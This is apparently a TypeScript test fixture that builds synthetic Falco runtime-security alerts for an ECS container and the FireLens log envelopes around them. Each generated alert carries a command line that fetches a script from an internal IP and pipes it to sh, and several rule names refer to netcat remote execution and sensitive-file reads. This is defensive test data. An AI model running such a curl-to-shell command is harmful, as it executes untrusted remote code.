/** Alerts of our own making, distinct in every field that makes an alert what it is, with the keys and sizes of Falco 0.44's. */

const RULES = [
  ["Terminal shell in container", "Notice", ["T1059", "container", "maturity_stable", "mitre_execution", "shell"]],
  [
    "Drop and execute new binary in container",
    "Critical",
    ["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"],
  ],
  ["Read sensitive file untrusted", "Warning", ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"]],
  [
    "Netcat Remote Code Execution in Container",
    "Warning",
    ["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
  ],
  ["Contact K8S API Server From Container", "Notice", ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"]],
] as const;

const hex = (n: number, digits: number): string =>
  Math.imul(n + 1, 0x9e3779b1)
    .toString(16)
    .replace("-", "")
    .padStart(digits, "0")
    .repeat(8)
    .slice(0, digits);

/** The line Falco prints. `pid` and `sequence` vary an alert that stays similar; `n` makes another container. */
export function alertLine(n: number, atMs: number, sequence = 0): string {
  const [rule, priority, tags] = RULES[n % RULES.length] ?? RULES[0];
  const fraction = String(100_000 + (sequence % 899_999)).padStart(6, "0");
  const iso = `${new Date(atMs).toISOString().slice(0, -1)}${fraction}`;
  const command = `sh -c "curl -s http://10.0.${n % 250}.${sequence % 250}/x | sh" # ${n}`;
  const id = hex(n, 12);
  const fields = {
    "container.id": id,
    "container.image.repository": "docker.io/library/checkout",
    "container.image.tag": `1.${n % 40}`,
    "container.label[com.amazonaws.ecs.task-arn]": `arn:aws:ecs:eu-west-1:111122223333:task/prod/${hex(n, 32)}`,
    "container.name": `ecs-checkout-${n % 12}-app-${hex(n + 7, 20)}`,
    "evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER",
    "evt.hostname": `ip-10-0-${n % 200}-7.eu-west-1.compute.internal`,
    "evt.time.iso8601": `@@${BigInt(atMs) * 1_000_000n + BigInt(fraction)}@@`,
    "evt.type": "execve",
    "k8s.ns.name": null,
    "k8s.pod.name": null,
    "proc.aname[2]": "containerd-shim",
    "proc.cmdline": command,
    "proc.exepath": "/bin/busybox",
    "proc.name": "sh",
    "proc.pid": 1_000 + sequence,
    "proc.pname": "node",
    "proc.tty": 34_816,
    "static.region": "eu-west-1",
    "user.loginuid": -1,
    "user.name": "root",
    "user.uid": 0,
  };
  const said = Object.entries(fields)
    .map(([key, value]) => `${key.replaceAll(".", "_")}=${value ?? "<NA>"}`)
    .join(" ")
    .replaceAll("@@", "");
  const alert = {
    hostname: `ip-10-0-${n % 200}-7`,
    output: `${iso}+0000: ${priority} ${rule} | ${said}`,
    output_fields: fields,
    priority,
    rule,
    source: "syscall",
    tags,
    time: `${iso}Z`,
  };
  return JSON.stringify(alert).replace(/"@@(\d+)@@"/, "$1");
}

/** What FireLens makes of the line with our own assets: a flat record with the envelope's keys behind the alert's. */
export const flatRecord = (line: string): string =>
  `${line.slice(0, -1)},"container_id":"${"4f".repeat(32)}","container_name":"/ecs-falco-7-falco-d0a1","stream":"stdout","ecs_cluster":"prod","ecs_task_arn":"arn:aws:ecs:eu-west-1:111122223333:task/prod/${"fa".repeat(16)}","ecs_task_definition":"falco:7","ec2_instance_id":"i-0fa1c0fa1c0fa1c0f"}`;

/** FireLens without a parser: the line as a string in `log`. */
export const stringRecord = (line: string): string =>
  JSON.stringify({
    container_id: "4f".repeat(32),
    container_name: "/ecs-falco-7-falco-d0a1",
    source: "stdout",
    log: line,
    ecs_cluster: "prod",
    ecs_task_arn: `arn:aws:ecs:eu-west-1:111122223333:task/prod/${"fa".repeat(16)}`,
    ecs_task_definition: "falco:7",
    ec2_instance_id: "i-0fa1c0fa1c0fa1c0f",
  });
